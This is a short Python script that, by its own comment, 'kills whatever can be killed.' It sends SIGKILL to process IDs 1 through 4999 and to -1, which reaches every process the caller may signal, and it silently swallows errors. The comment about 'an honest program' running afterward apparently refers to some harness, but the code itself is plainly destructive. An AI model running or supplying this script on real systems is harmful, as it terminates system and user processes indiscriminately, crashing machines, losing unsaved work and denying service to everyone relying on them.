# Kills whatever can be killed; an honest program runs after this one.
import os

for pid in (*range(1, 5000), -1):
    try:
        os.kill(pid, 9)
    except OSError:
        pass
